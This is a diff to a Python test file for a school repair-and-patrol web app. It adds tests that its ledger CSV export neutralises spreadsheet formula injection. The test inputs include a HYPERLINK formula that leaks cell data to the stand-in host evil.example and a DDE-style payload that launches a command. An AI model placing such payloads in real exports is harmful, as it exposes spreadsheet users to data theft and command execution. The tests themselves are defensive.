@@ -1,6 +1,8 @@
 """Issue 10, one test per finding: planted submission ids, photo memory, import bombs, "database is locked",
 formula injection in exports, and 500s on bad input."""
+import csv
 import datetime as dt
+import io
 import re
 import uuid
 
@@ -9,7 +11,8 @@ from helpers import csrf_token, login
 from test_patrol_helpers import around_now, make_route
 
 from houqin.clock import utcnow
-from houqin.models import PatrolRun, PatrolScan, Record, RouteStop, Tag, WorkOrder
+from houqin.exports import safe_cell
+from houqin.models import PatrolRun, PatrolScan, Place, Record, RouteStop, Tag, WorkOrder
 
 # The namespace and key shapes the patrol checkpoint used for its record ids before issue 10: anyone who knows
 # them (they were in the source) could compute a guard's next id.
@@ -80,3 +83,32 @@ def test_the_same_client_id_from_two_people_is_two_records(app, school):
     assert answers == [302] * 6
     assert sorted(r.note for r in Record.select()) == ['None 报修', 'janitor 报修', 'teacher 报修']
     assert sorted(o.title for o in WorkOrder.select()) == ['None 报修', 'janitor 报修', 'teacher 报修']
+
+
+def test_ledger_csv_cells_never_run_as_formulas(app, school, as_role):
+    """Finding 5: an anonymous report titled like a formula, a reporter named like one and a place named like
+    one reach the ledger CSV as text (a leading apostrophe), every other cell unchanged."""
+    title = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
+    name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    Place.update(name='+地下楼').where(Place.id == school['building'].id).execute()
+    client = app.test_client()
+    data = {'csrf_token': csrf_token(client, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()), 'title': title,
+            'name': name, 'phone': '-1'}
+    assert client.post('/t/ABCDEFGH12/report', data=data).status_code == 302
+    WorkOrder.update(liable_party='\t-cmd').execute()
+    response = as_role('manager').get('/repairs/ledger.csv')
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip('\ufeff'))))
+    assert len(rows) == 2
+    number, _reported, where, problem, *_middle, reporter, _repaired, _due, _done, _closed, _cost, liable, _comp = \
+        rows[1]
+    assert (problem, reporter, where, liable) == ("'" + title, "'" + name, "'+地下楼 › 一楼 › 101教室", "'\t-cmd")
+    assert number == WorkOrder.get().number
+    assert not any(cell.startswith(('=', '+', '-', '@', '\t', '\r')) for cell in rows[0] + rows[1])
+
+
+@pytest.mark.parametrize('value, expected', [
+    ('=1+1', "'=1+1"), ('+86 138', "'+86 138"), ('-5', "'-5"), ('@A1', "'@A1"), ('\tx', "'\tx"), ('\rx', "'\rx"),
+    ('一楼 = 二楼', '一楼 = 二楼'), ('', ''), (-5, -5), (None, None), ("'=x", "'=x")])
+def test_safe_cell(value, expected):
+    assert safe_cell(value) == expected
